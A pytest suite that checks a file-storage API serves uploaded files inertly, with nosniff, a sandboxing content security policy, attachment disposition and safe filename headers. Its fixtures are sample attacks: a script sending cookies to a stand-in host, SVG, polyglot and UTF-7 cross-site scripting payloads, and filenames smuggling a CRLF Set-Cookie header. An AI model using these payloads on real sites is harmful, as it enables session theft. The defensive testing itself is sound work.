"""Stored files are never pages of this origin: whatever they hold and are called, and however they are asked for."""

import secrets

import httpx
import pytest

SCRIPT = b"<script>document.location='https://evil.example/'+document.cookie</script>"
PAYLOADS = {
    "HTML": ("page.html", "text/html", b"<!doctype html>" + SCRIPT),
    "HTML by its bytes": ("page", None, b"<!doctype html><html>" + SCRIPT),
    "HTML by its name": ("page.htm", None, SCRIPT),
    "XHTML": (
        "page.xhtml",
        "application/xhtml+xml",
        b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>",
    ),
    "SVG": ("image.svg", "image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "XML with a style sheet": ("a.xml", "text/xml", b'<?xml-stylesheet href="javascript:alert(1)"?><a/>'),
    "MathML": ("a.mml", "application/mathml+xml", b'<math href="javascript:alert(1)"/>'),
    "a GIF that is a script": ("image.gif", "image/gif", b"GIF89a/*" + b"\0" * 8 + b"*/=1;alert(1)"),
    "a PNG that says HTML": ("image.png", "text/html", b"\x89PNG\r\n\x1a\n" + SCRIPT),
    "HTML that says PNG": ("image.png", "image/png", b"<!doctype html>" + SCRIPT),
    "a PDF with HTML": ("a.pdf", "application/pdf", b"%PDF-1.7\n" + SCRIPT),
    "a script": ("a.js", "text/javascript", b"alert(document.cookie)"),
    "a type with a line break's escape": (
        "a.txt",
        "text/plain; charset=utf-7",
        b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    ),
    "a multipart archive": ("a.mht", "multipart/related", b"Content-Type: text/html\r\n\r\n" + SCRIPT),
    "an event stream": ("a.events", "text/event-stream", b"data: x\n\n"),
    "no type at all": ("a", "application/octet-stream", SCRIPT),
}
# A browser runs scripts of none of these, nor takes them for another type.
INERT = {"image/gif", "image/png", "application/pdf", "text/plain", "application/octet-stream"}


@pytest.fixture
async def public(root: httpx.AsyncClient) -> str:
    bucket = f"public-{secrets.token_hex(4)}"
    await root.put(f"/v1/buckets/{bucket}", json={"public": True, "cache_control": "public, max-age=60"})
    return bucket


def assert_inert(answer: httpx.Response) -> None:
    """Fail unless a browser that opens the answer, or takes it into a page, runs none of it in this origin."""
    assert answer.headers["x-content-type-options"] == "nosniff"
    policy = answer.headers["content-security-policy"]
    assert "sandbox" in policy
    assert "default-src 'none'" in policy
    assert "allow-scripts" not in policy
    media_type = answer.headers["content-type"].partition(";")[0].strip().lower()
    is_attachment = answer.headers.get("content-disposition", "").startswith("attachment")
    assert is_attachment or media_type in INERT, (media_type, answer.headers.get("content-disposition"))


@pytest.mark.parametrize("kind", PAYLOADS)
async def test_a_file_runs_nothing_in_a_browser(
    root: httpx.AsyncClient, nobody: httpx.AsyncClient, public: str, kind: str
) -> None:
    name, content_type, content = PAYLOADS[kind]
    path = f"/v1/buckets/{public}/files/{name}"
    headers = {} if content_type is None else {"Content-Type": content_type}
    stored = await root.put(path, content=content, headers=headers)
    assert stored.status_code == 201
    id_ = stored.json()["id"]
    for client, url in ((nobody, path), (root, path), (root, f"/v1/files/{id_}/content")):
        for asked in ({}, {"Range": "bytes=0-9"}, {"Accept": "text/html", "Sec-Fetch-Dest": "document"}):
            answer = await client.get(url, headers=asked)
            assert answer.is_success
            assert_inert(answer)
    text = await root.get(f"/v1/files/{id_}/text")
    if text.is_success:
        assert text.headers["content-type"] == "text/plain; charset=utf-8"
        assert text.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("name", ['a".html', "a;b.html", "a%0d%0aSet-Cookie: x.html", "\u202egpj.html", "\u00e9.html"])
async def test_a_name_says_nothing_in_a_header_but_itself(root: httpx.AsyncClient, public: str, name: str) -> None:
    stored = await root.post(f"/v1/buckets/{public}/files", data={"name": name}, files={"file": b"text"})
    assert stored.status_code == 201, stored.text
    answer = await root.get(f"/v1/files/{stored.json()['id']}/content", params={"download": "true"})
    assert "set-cookie" not in answer.headers
    assert answer.headers.get_list("content-disposition") == [answer.headers["content-disposition"]]
    assert answer.headers["content-disposition"].startswith("attachment; filename")
